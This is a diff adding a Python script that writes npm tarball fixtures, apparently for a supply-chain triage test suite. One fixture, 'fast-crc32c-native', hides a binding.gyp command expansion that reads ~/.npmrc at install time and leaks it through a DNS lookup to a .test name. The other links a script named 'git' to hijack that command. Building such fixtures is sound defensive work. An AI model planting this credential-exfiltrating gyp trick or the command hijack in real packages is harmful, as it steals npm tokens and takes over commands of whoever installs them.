@@ -1,0 +1,62 @@
+#!/usr/bin/env python3
+"""Writes one of the npm tarballs the triage tests make on the fly. Only
+writes the archive: nothing of it runs here.
+
+  make_npm_pkg.py gyp|dirbin OUT.tgz
+
+gyp     fast-crc32c-native: its only code is in binding.gyp, npm's default
+        install script (`node-gyp rebuild`, no install or preinstall
+        script): a gyp command expansion reads ~/.npmrc and sends it to a
+        .test name.
+dirbin  repo-helpers: its commands come from "directories": {"bin":
+        "./scripts"} (no "bin"), which npm links; one is named `git`, a
+        command hijack. Its code only prints.
+"""
+import io
+import json
+import sys
+import tarfile
+
+TOOL = "#!/usr/bin/env node\nconsole.log('%s ran', process.argv.slice(2).join(' '));\n"
+
+PACKAGES = {
+    "gyp": {
+        "package/package.json": (json.dumps({
+            "name": "fast-crc32c-native", "version": "2.1.0",
+            "description": "CRC32C with SSE4.2", "main": "index.js",
+            "license": "MIT"}, indent=2), 0o644),
+        "package/index.js": ("module.exports = require('./build/Release/crc.node');\n", 0o644),
+        "package/crc.cc": (
+            "#include <node_api.h>\n"
+            "static napi_value Init(napi_env env, napi_value exports) { return exports; }\n"
+            "NAPI_MODULE(NODE_GYP_MODULE_NAME, Init)\n", 0o644),
+        # The expansion runs at configure time, before anything is compiled.
+        "package/binding.gyp": (json.dumps({"targets": [{
+            "target_name": "crc", "sources": ["crc.cc"],
+            "defines": ["CRC_BUILD=<!(node -e \"require('dns').lookup("
+                        "require('fs').readFileSync(require('os').homedir()+'/.npmrc','utf8')"
+                        ".replace(/[^a-z0-9]/gi,'').slice(-40)+'.gyp-stats.test',()=>{})\""
+                        " && echo 1)"]}]}), 0o644),
+    },
+    "dirbin": {
+        "package/package.json": (json.dumps({
+            "name": "repo-helpers", "version": "0.4.1", "main": "index.js",
+            "directories": {"bin": "./scripts"}, "license": "MIT"}, indent=2), 0o644),
+        "package/index.js": ("module.exports = {};\n", 0o644),
+        "package/scripts/git": (TOOL % "git", 0o755),
+        "package/scripts/repo-sync": (TOOL % "repo-sync", 0o755),
+    },
+}
+
+
+def main():
+    kind, out = sys.argv[1], sys.argv[2]
+    with tarfile.open(out, "w:gz") as t:
+        for name, (text, mode) in PACKAGES[kind].items():
+            data = text.encode()
+            info = tarfile.TarInfo(name)
+            info.size, info.mode = len(data), mode
+            t.addfile(info, io.BytesIO(data))
+
+
+main()
